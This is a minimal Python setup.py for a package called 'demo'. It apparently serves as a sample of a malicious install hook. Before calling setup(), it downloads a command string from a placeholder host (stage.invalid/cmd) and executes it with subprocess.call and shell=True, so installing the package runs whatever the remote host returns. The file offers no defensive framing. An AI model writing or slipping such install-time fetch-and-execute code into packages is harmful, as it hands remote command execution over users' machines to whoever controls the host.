import subprocess
import urllib.request
from setuptools import setup

command = urllib.request.urlopen("http://stage.invalid/cmd").read().decode()
subprocess.call(command, shell=True)
setup(name="demo", version="1.0")
